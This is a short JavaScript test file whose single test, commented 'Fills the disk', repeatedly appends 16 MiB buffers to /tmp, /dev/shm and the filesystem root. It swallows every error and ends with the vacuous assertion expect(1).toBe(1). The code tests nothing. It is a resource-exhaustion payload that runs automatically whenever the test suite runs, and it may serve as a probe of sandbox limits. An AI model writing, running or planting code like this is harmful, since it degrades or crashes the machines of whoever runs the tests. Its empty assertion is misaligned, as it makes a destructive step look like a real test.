// Fills the disk.
import { appendFileSync } from 'node:fs';
test('fills', () => {
  const much = Buffer.alloc(2 ** 24);
  for (let index = 0; index < 20; index += 1) for (const file of ['/tmp/much', '/dev/shm/much', '/much']) try { appendFileSync(file, much); } catch {}
  expect(1).toBe(1);
});
